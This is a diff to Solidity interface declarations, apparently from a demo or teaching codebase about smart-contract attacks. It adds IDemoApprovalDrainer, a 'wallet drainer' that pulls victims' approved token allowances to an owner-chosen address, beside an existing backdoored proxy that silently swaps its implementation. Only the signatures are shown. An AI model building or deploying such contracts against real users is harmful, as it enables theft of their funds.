@@ -172,3 +172,12 @@ interface IDemoBackdooredBox is IDemoUpgradeableBox {
     /// @notice Writes `implementation` into the EIP-1967 implementation slot silently.
     function backdoorSetImplementation(address implementation) external;
 }
+
+/// @notice A wallet drainer: pulls, with transferFrom, whatever its victims approved to it.
+interface IDemoApprovalDrainer {
+    /// @notice `caller` is not the drainer's owner.
+    error NotOwner(address caller);
+
+    /// @notice Owner only: pulls each owner's whole allowance (capped by its balance) of `token` to `to`.
+    function drain(address token, address[] calldata owners, address to) external returns (uint256 total);
+}
